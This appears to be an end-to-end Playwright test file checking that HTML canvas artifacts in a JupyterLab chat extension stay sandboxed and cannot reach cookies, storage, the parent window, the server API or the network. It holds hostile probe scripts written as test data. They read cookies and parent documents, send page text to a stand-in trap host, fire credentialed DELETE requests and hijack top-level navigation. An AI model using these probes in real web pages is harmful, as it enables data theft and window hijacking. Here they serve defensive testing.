"""What an html canvas can reach from where it is shown: not the server, not the cookies, not the network, not the window above."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Frame, Page, expect

from tests.fixtures.desk import Desk, Lab, a_lab
from tests.fixtures.trap import Trap, a_trap

pytestmark = [pytest.mark.e2e, pytest.mark.slow, pytest.mark.timeout(400)]
SETTLE_MS = 1500  # what a page could still send after it was told no
PROBES = """
const out = {};
const dead = () => new Promise(done => setTimeout(() => done('dead'), 1000));
async function probe(name, run) {
  try { out[name] = String(await Promise.race([run(), dead()])); } catch (error) { out[name] = 'no: ' + error.name; }
}
const event = (target, yes, no) => new Promise((resolve, reject) => {
  target.addEventListener(yes, () => resolve('open')); target.addEventListener(no, () => reject(new Error('blocked')));
});
const put = (tag, fields) => { const made = Object.assign(document.createElement(tag), fields); document.body.append(made); return made; };
(async () => {
  await probe('cookie', async () => 'read ' + document.cookie);
  await probe('storage', async () => 'read ' + localStorage.length);
  await probe('database', async () => 'read ' + indexedDB.open('x'));
  await probe('parent document', async () => 'read ' + parent.document.title);
  await probe('top document', async () => 'read ' + top.document.title);
  await probe('top name', async () => { top.name = 'stolen'; return 'wrote'; });
  await probe('api', async () => 'read ' + (await fetch(API)).status);
  await probe('api with cookie', async () => 'read ' + (await fetch(API, {credentials: 'include', mode: 'no-cors'})).type);
  await probe('api delete', async () => 'sent ' + (await fetch(API, {method: 'DELETE', credentials: 'include', mode: 'no-cors'})).type);
  await probe('fetch', async () => 'read ' + (await fetch(TRAP + '/fetch')).status);
  await probe('xhr', () => new Promise((resolve, reject) => {
    const ask = new XMLHttpRequest(); ask.onload = () => resolve('read'); ask.onerror = () => reject(new Error('blocked'));
    ask.open('GET', TRAP + '/xhr'); ask.send();
  }));
  await probe('beacon', async () => { navigator.sendBeacon(TRAP + '/beacon', 'x'); return 'tried'; });
  await probe('events', () => event(new EventSource(TRAP + '/events'), 'open', 'error'));
  await probe('socket', () => event(new WebSocket(TRAP.replace('http', 'ws') + '/socket'), 'open', 'error'));
  await probe('server socket', () => event(new WebSocket(API.replace('http', 'ws').replace(/artifacts.*/, 'ws')), 'open', 'error'));
  await probe('worker', async () => event(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'message', 'error'));
  await probe('picture', () => event(put('img', {src: TRAP + '/picture'}), 'load', 'error'));
  await probe('script', () => event(put('script', {src: TRAP + '/script.js'}), 'load', 'error'));
  await probe('style', () => event(put('link', {rel: 'stylesheet', href: TRAP + '/style.css'}), 'load', 'error'));
  await probe('import', () => import(TRAP + '/module.js').then(() => 'read'));
  await probe('prefetch', async () => { put('link', {rel: 'prefetch', href: TRAP + '/prefetch'}); return 'tried'; });
  await probe('video', () => event(put('video', {src: TRAP + '/video', autoplay: true}), 'loadeddata', 'error'));
  await probe('frame', async () => { put('iframe', {src: TRAP + '/frame'}); return 'tried'; });
  await probe('object', async () => { put('object', {data: TRAP + '/object'}); return 'tried'; });
  await probe('popup', async () => String(window.open(TRAP + '/popup')));
  await probe('form', async () => { put('form', {action: TRAP + '/form', method: 'post'}).submit(); return 'tried'; });
  await probe('form in a window', async () => {
    put('form', {action: TRAP + '/form2', method: 'post', target: '_blank'}).submit(); return 'tried'; });
  await probe('link in a window', async () => { put('a', {href: TRAP + '/link', target: '_blank'}).click(); return 'tried'; });
  await probe('link to the top', async () => { put('a', {href: TRAP + '/link2', target: '_top'}).click(); return 'tried'; });
  await probe('top location', async () => { top.location = TRAP + '/top'; return 'tried'; });
  await probe('parent location', async () => { parent.location.href = TRAP + '/parent'; return 'tried'; });
  await probe('message', async () => { for (const up of [parent, top]) up.postMessage({type: 'open', command: 'help:about'}, '*'); return 'sent'; });
  await probe('script of a list', () => event(put('script', {src: 'https://cdn.jsdelivr.net/npm/x.js'}), 'load', 'error'));
  await probe('its word', async () => window.fromTheList);
  document.title = 'probed';
  put('pre', {id: 'out', textContent: JSON.stringify(out)});
})();
"""
LEAVES = {
    "location": "location.href = TRAP + '/location?' + encodeURIComponent(document.body.innerText)",
    "replace": "location.replace(TRAP + '/replace')",
    "self link": "const a = document.createElement('a'); a.href = TRAP + '/self'; document.body.append(a); a.click()",
    "download": "document.body.append(Object.assign(document.createElement('a'), {href: TRAP + '/saved', download: 'x'}));"
    " document.querySelector('a').click()",
    "refresh": "document.write('<meta http-equiv=refresh content=\"0;url=' + TRAP + '/refresh\">')",
    "base": "document.head.innerHTML = '<base href=\"' + TRAP + '/\">'; location = 'based'",
    "server": "location.href = API.replace(/crewlab.*/, 'lab')",
    "script address": "location.href = 'javascript:document.body.append(document.cookie)'",
}
READS = ("cookie", "storage", "database", "parent document", "top document", "top name", "api", "api with cookie", "api delete")
SENDS = ("fetch", "xhr", "events", "socket", "server socket", "worker", "picture", "script", "style", "import", "video")


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    with a_trap() as found:
        yield found


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory, trap: Trap) -> Iterator[Lab]:
    """A crew that answers ``page <name>`` with the canvas of that name."""
    folder = tmp_path_factory.mktemp("pages")
    script = folder / "script.json"
    with a_lab(folder, routes=f"fake:script:{script}") as lab:
        names = f"const TRAP = {json.dumps(trap.url)}, API = {json.dumps(lab.url + 'crewlab/api/artifacts')};"
        pages = {name: f"{names}\n{code}" for name, code in {"probes": PROBES, **LEAVES}.items()}
        script.write_text(json.dumps({"turns": [_turn(name, code) for name, code in pages.items()]}), encoding="utf-8")
        yield lab


def _turn(name: str, code: str) -> dict[str, Any]:
    page = f"<!doctype html><html><head></head><body><p>secret words</p><script>{code}</script></body></html>"
    call = {"call": "artifact_create", "arguments": {"title": name, "kind": "html", "content": page}}
    return {"match": f"^page {name}$", "rounds": [[call], [{"text": "Done."}]]}


@pytest.fixture
def desk(page: Page, lab: Lab) -> Desk:
    desk = Desk(page, lab)
    desk.open()
    desk.chat()
    return desk


def show(desk: Desk, name: str) -> str:
    """Open the canvas of a page from its chip; the id."""
    desk.execute("crewlab:new-conversation")
    desk.send(f"page {name}")
    desk.thread.locator(".crew-canvas-chip", has_text=name).click()
    desk.page.locator(".crew-canvas h2", has_text=name).wait_for()
    found = desk.lab.get("artifacts").json()["artifacts"]
    return next(str(one["id"]) for one in found if one["title"] == name)


def inner(page: Page, canvas: str) -> Frame:
    """The frame of the page itself, two below JupyterLab."""
    return next(frame for frame in page.frames if frame.url.endswith("/page") and canvas in frame.url)


@pytest.mark.spec("CNV-114", "CNV-115", "CNV-116", "CNV-117", "CNV-118", "CNV-119")
def test_a_page_reaches_nothing_but_the_listed_addresses(desk: Desk, trap: Trap) -> None:
    page = desk.page
    page.context.route("https://cdn.jsdelivr.net/**", lambda route: route.fulfill(body="window.fromTheList = 'heard'"))
    trap.heard.clear()
    popups: list[Page] = []
    page.context.on("page", lambda popup: popups.append(popup))
    address = page.url.partition("?")[0]
    canvas = show(desk, "probes")
    holder = page.frame_locator(".crew-canvas-frame")
    expect(holder.locator("iframe")).to_have_attribute("sandbox", "allow-scripts")
    told = holder.frame_locator("iframe").locator("#out")
    told.wait_for(state="attached", timeout=90_000)
    out = json.loads(str(told.text_content()))
    page.wait_for_timeout(SETTLE_MS)
    for name in READS + SENDS:
        assert out[name] == "dead" or out[name].startswith("no: "), (name, out[name])
    assert out["popup"] == "null"
    assert (out["script of a list"], out["its word"]) == ("open", "heard")
    assert trap.heard == []
    assert popups == []
    assert page.url.partition("?")[0] == address
    assert page.evaluate("window.name") != "stolen"
    assert page.locator(".jp-Dialog").count() == 0  # its message has opened nothing
    assert desk.lab.get(f"artifacts/{canvas}").status_code == 200
    assert inner(page, canvas).evaluate("self.origin") == "null"


@pytest.mark.spec("CNV-118")
@pytest.mark.parametrize("way", list(LEAVES))
def test_a_page_cannot_leave_by_going_elsewhere(desk: Desk, trap: Trap, way: str) -> None:
    page = desk.page
    trap.heard.clear()
    address = page.url.partition("?")[0]
    canvas = show(desk, way)
    page.wait_for_timeout(SETTLE_MS)
    assert trap.heard == []
    assert page.url.partition("?")[0] == address
    inside = [frame.url for frame in page.frames if frame.parent_frame is not None and "/holder" in frame.parent_frame.url]
    assert inside and not [url for url in inside if url.startswith(trap.url) or url.endswith("/lab")], inside
    expect(page.locator(".crew-canvas h2", has_text=way)).to_be_visible()
    assert desk.lab.get(f"artifacts/{canvas}").status_code == 200
